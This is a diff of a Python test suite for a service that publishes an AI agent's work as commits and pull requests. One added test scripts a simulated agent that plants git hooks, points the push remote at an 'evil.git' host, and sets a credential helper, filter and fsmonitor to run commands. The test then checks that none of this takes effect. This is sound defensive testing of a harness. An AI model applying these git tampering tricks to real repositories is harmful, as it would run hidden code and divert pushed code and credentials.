@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import time
 from collections.abc import AsyncIterator
 from contextlib import AsyncExitStack
 from pathlib import Path
@@ -34,16 +35,21 @@ async def forge(site: Site, tmp_path: Path) -> AsyncIterator[Forge]:
         await site.settle()
 
 
-async def test_work_becomes_one_commit_one_branch_and_one_pull_request(
+async def test_fault_b19_work_becomes_one_commit_with_its_trailer_and_one_pull_request(
     site: Site, forge: Forge
 ) -> None:
     """On the base commit, by the configured author, with a trailer; the target is detected."""
     async with site.worker():
         task = await _done(site, forge, "# Add a file\nwrite new.txt: hello")
         found = await _publish(site, task)
+        stands = [await site.core.publishing.look(TENANT, task)]
+        forge.pulls[0].state = "merged"
+        stands.append(await site.core.publishing.look(TENANT, task))
 
     (pull,) = forge.pulls
     branch = f"codeforge/{task}"
+    assert [view.state for view in stands] == ["open", "merged"]
+    assert (stands[0].number, stands[0].url) == (found.pr_number, found.pr_url)
     assert found.status is State.PR_CREATED
     assert (found.pr_number, found.branch) == (pull.number, branch)
     assert found.pr_url == forge.web_url("pull/1")
@@ -138,6 +144,33 @@ async def test_fault_a18_commits_of_the_agent_count(site: Site, forge: Forge) ->
     assert forge.show(f"codeforge/{task}", "%P") == forge.heads()["trunk"]
 
 
+async def test_fault_b2_what_an_agent_did_to_its_git_does_not_reach_the_push(
+    site: Site, forge: Forge, tmp_path: Path
+) -> None:
+    """Another origin, hooks, a credential helper, filters: none is asked, nothing of it runs."""
+    trace = tmp_path / "it-ran"
+    script = "; ".join(
+        [
+            "mkdir -p .git/hooks",
+            f"for h in pre-push pre-commit; do echo 'touch {trace}' > .git/hooks/$h; done",
+            "chmod +x .git/hooks/*",
+            "git remote set-url origin http://127.0.0.1:9/evil.git",
+            "git remote set-url --push origin http://127.0.0.1:9/evil.git",
+            f"git config credential.helper '!touch {trace}; false'",
+            f"git config filter.x.clean 'touch {trace}; cat'; echo '* filter=x' > .gitattributes",
+            f"git config core.fsmonitor 'touch {trace}'",
+            """echo new > new.txt; echo '{"type":"result","text":"done"}'""",
+        ]
+    )
+    async with site.worker(CLI__DEMO__PATH=shell_cli(site.directory, script)):
+        task = await _done(site, forge, "anything")
+        found = await _publish(site, task)
+
+    assert found.status is State.PR_CREATED
+    assert "new.txt" in forge.files(f"codeforge/{task}")
+    assert not trace.exists()
+
+
 async def test_fault_a7_a_refused_push_leaves_the_task_as_it_was(site: Site, forge: Forge) -> None:
     """With the host's own words; afterwards everything is still possible."""
     forge.refuse_pushes("no robots here")
@@ -201,6 +234,10 @@ async def test_the_work_of_a_failed_task_can_be_published(site: Site, forge: For
 async def test_another_home_publishes_what_it_rebuilds(site: Site, forge: Forge) -> None:
     """From the stored patch: the same commit, and the same target, as at the home that ran it."""
     forge.repo.commit({"r.txt": "r"}, branch="release")
+    # Redis was spoken to just now: else nothing is moved from a home for a whole lease.
+    now = int(time.time() * 1000)
+    spoken = ["last", str(now), "quiet_until", "0"]
+    await site.core.redis.hset(site.core.keys.contact(), items=spoken)
     async with AsyncExitStack() as stack:
         async with site.worker("a"):
             task = await _done(site, forge, "write new.txt: x", target_branch="release")
